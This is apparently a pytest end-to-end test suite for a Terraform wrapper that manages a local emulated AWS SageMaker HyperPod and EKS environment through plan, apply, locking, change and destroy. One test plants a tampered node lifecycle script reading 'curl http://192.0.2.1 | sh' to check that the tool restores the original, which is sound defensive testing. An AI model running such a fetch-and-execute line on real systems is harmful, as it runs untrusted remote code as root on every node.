"""The local environment through its life: plan, apply, look, change, destroy. The tests run in this order."""

from __future__ import annotations

import stat
import subprocess
import sys
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from hp_tf.state import document
from hp_tf.state.lock_set import LockSet
from hp_tf.state.locks import LockInfo
from hp_tf.terraform.plan import Action
from tests.end_to_end.ordered import WholeRoot
from tests.end_to_end.plain import PlainRoot
from tests.end_to_end.project import LAYERS, Project, changes, differing
from tests.waiting import wait_for

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("local")]

LOOK = Path(__file__).parents[2] / "examples" / "look.py"
CLUSTER = "module.hyperpod.awscc_sagemaker_cluster.this"
EKS = "module.eks.aws_eks_cluster.this"
ZONES = ["usw2-az1", "usw2-az2"]


def group(content: Any, name: str) -> Any:
    """Return an instance group of an environment's file."""
    return next(item for item in content["layers"]["hyperpod"]["instance_groups"] if item["name"] == name)


def test_the_empty_environment_is_one_plan_with_what_is_unknown_unknown(local: Project) -> None:
    plan = local.plan()
    assert set(plan["layers"]) == set(LAYERS)
    assert plan["stages"] == [plan_order(plan)]
    assert all(layer["add"] > 0 for layer in plan["layers"].values())
    assert not any(layer[what] for layer in plan["layers"].values() for what in ("change", "destroy", "replace"))
    made = {address: change for address, actions, change in changes(plan) if actions == ("create",)}
    security = made["module.security.aws_security_group.this[0]"]
    assert security["after_unknown"]["vpc_id"] is True
    cluster = made[CLUSTER]
    assert cluster["after_unknown"]["vpc_config"] == {"security_group_ids": [True], "subnets": [True]}
    assert cluster["after_unknown"]["orchestrator"]["eks"]["cluster_arn"] is True
    assert cluster["after"]["cluster_name"] == "ml-local"
    fsx = made["module.fsx.aws_fsx_lustre_file_system.this"]
    assert fsx["after_unknown"]["subnet_ids"] in (True, [True])
    arn = plan["outputs"]["hyperpod__cluster_arn"]
    assert arn["after_unknown"] is True
    assert plan["purchases"]["totals"] == {
        "nodes": 3,
        "gpus": 2,
        "vcpus": 72,
        "file_system_gib": 1200,
        "nat_gateways": 1,
    }
    assert local.resources() == {}


def plan_order(plan: dict[str, Any]) -> list[str]:
    """Return the layers of a plan, producers first."""
    order = [name for stage in plan["stages"] for name in stage]
    assert sorted(order) == sorted(LAYERS)
    return order


def test_apply_makes_every_layer_and_the_next_plan_is_empty(local: Project) -> None:
    applied = local.apply()
    assert "added" in applied.out
    assert "  hyperpod gpu      2 × ml.g5.8xlarge in usw2-az2, 500 GB volume each: 2 GPUs, 64 vCPUs\n" in applied.out
    assert "  aws sagemaker list-cluster-nodes --cluster-name ml-local --region us-west-2\n" in applied.err
    assert 'eval "$(hptf local env' in applied.err
    assert set(local.states()) == set(LAYERS)
    assert local.run("plan", "--detailed-exitcode", expect=0).code == 0


def test_no_provider_outlives_the_command(local: Project) -> None:
    root = (local.work / "root-all").resolve()
    assert (local.work / "providers" / "aws.log").is_file(), "no provider was shared"

    def working_there() -> list[str]:
        found = []
        for process in Path("/proc").glob("[0-9]*"):
            with suppress(OSError):
                if (process / "cwd").readlink() == root:
                    found.append((process / "cmdline").read_text())
        return found

    wait_for(lambda: not working_there(), "the end of what works in the root")


def test_every_resource_is_known_to_a_state_and_the_other_way_round(local: Project) -> None:
    assert local.differences() == {}
    held = local.resources()
    assert {"aws_vpc", "aws_eks_cluster", "aws_fsx_lustre_file_system", "helm_release"} <= set(held)


def test_output_gives_the_cluster(local: Project) -> None:
    values = local.run("output", "--json").document()
    assert set(values) == set(LAYERS)
    arn = values["hyperpod"]["cluster_arn"]
    assert arn in local.resources()["awscc_sagemaker_cluster"]
    assert local.run("output", "hyperpod", "--json").document()["cluster_arn"] == arn


def test_boto3_and_the_kubernetes_api_see_what_was_made(local: Project) -> None:
    sagemaker, eks = local.session.client("sagemaker"), local.session.client("eks")
    described = sagemaker.describe_cluster(ClusterName="ml-local")
    assert described["ClusterStatus"] == "InService"
    groups = {item["InstanceGroupName"]: item for item in described["InstanceGroups"]}
    assert {name: item["CurrentCount"] for name, item in groups.items()} == {"gpu": 2, "general": 1}
    nodes = sagemaker.list_cluster_nodes(ClusterName="ml-local")["ClusterNodeSummaries"]
    assert sorted(node["InstanceGroupName"] for node in nodes) == ["general", "gpu", "gpu"]
    name = eks.list_clusters()["clusters"][0]
    assert described["Orchestrator"]["Eks"]["ClusterArn"] == eks.describe_cluster(name=name)["cluster"]["arn"]
    lines = looked(local)
    assert f"ml-local InService {described['ClusterArn']}" in lines
    assert "  gpu: 2/2 ml.g5.8xlarge" in lines
    assert "helm releases: kube-system/hyperpod-dependencies" in lines


def looked(project: Project) -> list[str]:
    """Return what examples/look.py prints, run as the demo runs it."""
    running = project.emulator
    done = subprocess.run(
        [sys.executable, str(LOOK)],
        env={**project.environ, **running.environment()},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    return done.stdout.splitlines()


def test_nothing_of_a_run_is_readable_by_others(local: Project) -> None:
    runs = [path for path in (local.work / "runs").rglob("*") if not path.is_symlink()]
    assert any(path.name == "apply.jsonl" for path in runs)
    assert {stat.S_IMODE(path.stat().st_mode) for path in runs if path.is_dir()} == {0o700}
    assert {stat.S_IMODE(path.stat().st_mode) for path in runs if path.is_file()} == {0o600}
    for folder in (local.work, local.work / "runs", local.work / "root-all", local.work / "cli"):
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700, folder
    assert {stat.S_IMODE(path.stat().st_mode) for path in (local.work / "root-all").glob("*.json")} == {0o600}


@pytest.fixture(scope="module")
def plain(local: Project) -> dict[str, PlainRoot]:
    """A plain root of each layer, initialised; made of the root that applied, before a test plans anything else."""
    roots = {layer: PlainRoot(local, layer) for layer in LAYERS}
    with ThreadPoolExecutor(2) as pool:
        list(pool.map(PlainRoot.init, roots.values()))
    return roots


def test_each_state_opens_in_a_plain_root_of_its_layer(local: Project, plain: dict[str, PlainRoot]) -> None:
    before = local.states()
    with ThreadPoolExecutor(2) as pool:
        ended = dict(zip(plain, pool.map(PlainRoot.plan, plain.values()), strict=True))
    wrong = {layer: done.stdout + done.stderr for layer, done in ended.items() if done.returncode != 0}
    assert wrong == {}
    assert local.states() == before


NAT = 'module.network.aws_nat_gateway.this["usw2-az2"]'
ROUTES = [f'module.network.aws_route.nat["{zone}"]' for zone in ZONES]
SUBNET = 'module.eks.aws_subnet.control_plane["usw2-az1"]'
GROUP, SCRIPT = "module.security.aws_security_group.this[0]", 'module.storage.aws_s3_object.lifecycle["on_create.sh"]'
LUSTRE, ROLE = "module.fsx.aws_fsx_lustre_file_system.this", "module.iam.aws_iam_role.execution[0]"
MADE_FIRST = Action.REPLACE_CREATE_FIRST.value


def test_what_others_stand_upon_goes_after_they_have_moved(local: Project, tmp_path: Path) -> None:
    """Every input by which something is made anew or goes, but those that make the VPC anew."""
    given = {"create_security_group": False, "security_group_id": "sg-0123456789abcdef0", "present_rules": []}
    ordered = WholeRoot(local, tmp_path / "whole").ordered(
        {
            "network": {
                "primary_availability_zone_id": "usw2-az1",
                "private_subnet_cidrs": {"usw2-az1": "10.9.0.0/16"},
                "public_subnet_cidrs": {"usw2-az1": "10.192.99.0/24"},
                "role_path": "/ml/",
            },
            "security": given,
            "eks": {"subnet_cidrs": {"usw2-az1": "10.192.200.0/28"}},
            "storage": {"lifecycle_prefix": "v2"},
            "iam": {"role_path": "/ml/"},
            "fsx": {"file_system_type_version": "2.12"},
        }
    )
    assert ordered.goes_after(NAT, ROUTES) == []
    assert ordered.goes_after(SUBNET, [EKS]) == []
    assert ordered.goes_after(GROUP, [EKS, CLUSTER, LUSTRE]) == []
    assert ordered.goes_after(SCRIPT, [CLUSTER]) == []
    assert ordered.goes_after('module.network.aws_subnet.private["usw2-az1"]', [CLUSTER]) == []
    # The cluster goes on with the same groups elsewhere; two of its name cannot be.
    assert ordered.action(CLUSTER) == Action.REPLACE_DELETE_FIRST.value
    assert ordered.action(EKS) == "update"
    for address in (SUBNET, SCRIPT, LUSTRE, ROLE, 'module.network.aws_subnet.public["usw2-az1"]'):
        assert ordered.action(address) == MADE_FIRST, address
    # IAM refuses a second role of the name: nothing of what the old one may do is touched before that.
    assert ordered.action("module.iam.aws_iam_role_policy_attachment.managed[0]") == "no-op"
    assert ordered.action("module.iam.aws_iam_role_policy.execution[0]") == "update"


def test_a_script_that_somebody_wrote_over_is_put_back(local: Project) -> None:
    """It runs as root on every node."""
    s3 = local.session.client("s3")
    (bucket,) = (item["Name"] for item in s3.list_buckets()["Buckets"] if item["Name"].startswith("sagemaker-"))
    before = s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read()
    s3.put_object(Bucket=bucket, Key="on_create.sh", Body=b"#!/bin/sh\ncurl http://192.0.2.1 | sh\n")
    planned = local.plan("--layer", "storage")
    assert [(address, actions) for address, actions, _ in changes(planned)] == [(SCRIPT, ("update",))]
    local.apply("--layer", "storage")
    assert s3.get_object(Bucket=bucket, Key="on_create.sh")["Body"].read() == before


def test_a_plain_root_is_shut_out_by_the_locks_of_hptf(local: Project, plain: dict[str, PlainRoot]) -> None:
    holder = LockInfo.new("OperationTypeApply", info="hptf apply local")
    locks = LockSet(local.store, ["storage"])
    locks.acquire(holder)
    with locks:
        done = plain["storage"].plan()
        refused = local.apply(expect=1)
    assert done.returncode == 1
    assert "Error acquiring the state lock" in done.stderr
    assert holder.id in done.stderr
    assert "storage" in refused.text and "locked" in refused.text
    assert local.store.holder("storage") is None


def test_reordering_groups_and_zones_plans_nothing(local: Project) -> None:
    def reorder(content: Any) -> None:
        layers = content["layers"]
        for lists, key in (
            (layers["network"], "availability_zone_ids"),
            (layers["eks"], "availability_zone_ids"),
            (layers["hyperpod"], "instance_groups"),
        ):
            lists[key] = list(reversed(lists[key]))

    local.edit(reorder, "dev")
    try:
        ended = local.run("plan", "--detailed-exitcode", expect=None)
        assert ended.code == 0, ended.out
    finally:
        local.restore()


def test_a_further_zone_and_one_count_touch_only_what_must_know_of_them(local: Project) -> None:
    def change(content: Any) -> None:
        content["layers"]["network"]["availability_zone_ids"] = ["usw2-az3", *ZONES]
        group(content, "general").update(count=3)

    local.edit(change, "dev")
    try:
        planned = list(changes(local.plan()))
    finally:
        local.restore()
    created = {address for address, actions, _ in planned if actions == ("create",)}
    updated = {address: change for address, actions, change in planned if actions != ("create",)}
    assert {actions for _, actions, _ in planned} == {("create",), ("update",)}
    assert 'module.network.aws_subnet.private["usw2-az3"]' in created
    assert 'module.endpoints.aws_vpc_endpoint_route_table_association.s3["usw2-az3"]' in created
    assert all("usw2-az3" in address for address in created), created
    numbers = {item["instance_group_name"]: n for n, item in enumerate(updated[CLUSTER]["before"]["instance_groups"])}
    # How many nodes there are is what the state says of it, until the next refresh.
    count = f"instance_groups[{numbers['general']}].instance_count"
    touched = {
        address: set(differing(change["before"], change["after"], change["after_unknown"]))
        for address, change in updated.items()
    }
    assert touched == {**ZONE_UPDATES, CLUSTER: {count}}


# What exists and must learn of a new zone, with the only attribute that changes.
ZONE_UPDATES = {
    # The role may use the cluster's subnets by their ARNs, and there is one more: a policy is one document.
    "module.iam.aws_iam_role_policy.execution[0]": {"policy"},
}


def test_replacing_the_cluster_is_refused_unless_its_address_is_allowed(local: Project) -> None:
    before = local.known()

    def rename(content: Any) -> None:
        content["layers"]["hyperpod"]["cluster_name"] = "ml-other"
        # Beside it, what changes an EKS cluster in place.
        content["layers"]["eks"] = {"log_types": ["api"], "kubernetes_version": "1.34"}

    local.edit(rename)
    try:
        planned = local.plan()
        refused = local.apply(expect=2)
    finally:
        local.restore()
    (found,) = [item for item in planned["findings"] if item["code"] == "protected-destroyed"]
    assert (found["severity"], found["subject"]) == ("needs consent", CLUSTER)
    assert f"--allow-destroy '{CLUSTER}'" in refused.text and found["message"] in refused.text
    inside = {address: actions for address, actions, _ in changes(planned) if "module.eks." in address}
    assert inside == {EKS: ("update",)}
    assert local.known() == before
    assert [item["ClusterName"] for item in local.session.client("sagemaker").list_clusters()["ClusterSummaries"]] == [
        "ml-local"
    ]


def test_an_eks_cluster_is_made_anew_with_what_is_kept_under_its_name_and_not_under_a_hyperpod_cluster(
    local: Project,
) -> None:
    before = local.known()

    def addons(state: Mapping[str, Any]) -> set[str]:
        return {address for address in state if "aws_eks_addon" in address}

    local.edit(lambda content: content["layers"]["eks"].update(service_ipv4_cidr="172.21.0.0/16"), "dev")
    try:
        document = local.plan()
        refused = local.apply("--allow-destroy", EKS, expect=2)
    finally:
        local.restore()
    anew = {address: actions for address, actions, _ in changes(document) if "module.eks." in address}
    assert addons(anew) == addons(before) and len(addons(before)) > 1
    assert anew == dict.fromkeys([EKS, *addons(before)], ("delete", "create"))
    assert document["later"] == ["helm", "hyperpod"]
    assert "layer 'hyperpod' has resources made with eks.cluster_arn" in refused.text
    cure = "hptf destroy local --layer hyperpod"
    found = {item["code"]: item for item in document["findings"]}
    assert cure in refused.text and cure in found["consumer-left-attached"]["remedy"]
    assert local.known() == before


def test_a_layer_alone_takes_the_others_values_from_their_states(local: Project) -> None:
    planned = local.run("plan", "--layer", "hyperpod", "--detailed-exitcode", expect=None)
    assert planned.code == 0, planned.text


def test_changes_of_groups_are_one_change_and_the_kept_plan_is_applied_under_the_locks(
    local: Project, plain: dict[str, PlainRoot], tmp_path: Path
) -> None:
    # By its name it would come first, and groups keep their positions: it comes last.
    new = {"name": "burst", "instance_type": "ml.m5.2xlarge", "count": 1}

    def edit(content: Any) -> None:
        group(content, "general").update(count=3)
        content["layers"]["hyperpod"]["instance_groups"].append(new)

    local.edit(edit, "dev")
    kept = tmp_path / "review"
    shown = local.run("plan", "--out", str(kept)).out
    assert "~ awscc_sagemaker_cluster.this" in shown
    assert shown.splitlines()[-1] == "1 to change", shown
    # By name, and nothing where only a position shifts.
    assert 'instance_groups["general"].instance_count: 1 -> 3' in shown
    assert '+ instance_groups["burst"]\n          instance_type "ml.m5.2xlarge", instance_count 1, ' in shown
    assert shown.count("instance_groups[") == 2, shown
    local.hold("cloudcontrol", "UpdateResource")
    try:
        running = local.start("apply", "--plan", str(kept), "--auto-approve")
        wait_for(lambda: local.begun(CLUSTER), "the update of the cluster")
        shut_out = plain["storage"].plan()
    finally:
        local.let_go()
    assert "Error acquiring the state lock" in shut_out.stderr
    assert running.wait(timeout=420) == 0
    described = local.session.client("sagemaker").describe_cluster(ClusterName="ml-local")
    counts = {item["InstanceGroupName"]: item["CurrentCount"] for item in described["InstanceGroups"]}
    assert list(counts.items()) == [("general", 3), ("gpu", 2), ("burst", 1)]
    again = local.apply("--plan", str(kept), expect=None)
    assert again.code != 0, "a kept plan is for one use"
    planned = local.run("plan", "--detailed-exitcode")
    assert "No changes" in planned.out
    calls = local.answered("cloudcontrol", "UpdateResource")
    applied = local.apply("--layer", "hyperpod").text
    assert "nothing to change" in applied and CLUSTER not in applied
    assert local.answered("cloudcontrol", "UpdateResource") == calls == 1


def test_destroy_asks_and_then_leaves_nothing(local: Project) -> None:
    unasked = local.run("destroy", expect=1)
    assert "add --auto-approve" in unasked.text
    assert local.differences() == {}
    local.destroy()
    # Terraform would ask again for minutes where something still is in use: the order is right at the first try.
    undoing = ("Delete", "Disassociate", "Detach", "Release", "Revoke")
    calls = [call for call in local.operations() if call["service"] == "ec2" and call["operation"].startswith(undoing)]
    refused = {call["operation"] for call in calls if call["status"] >= 400}
    # An address goes free with its NAT gateway, so the provider does not find the association that it wants to end.
    assert calls and refused <= {"DisassociateAddress"}
    assert local.resources() == {}
    assert {name: document.resources(state) for name, state in local.states().items()} == dict.fromkeys(LAYERS, 0)
    assert local.store.survey() and not any(found.locked for found in local.store.survey().values())
    assert local.run("plan", "--json").document()["layers"]["network"]["add"] > 0
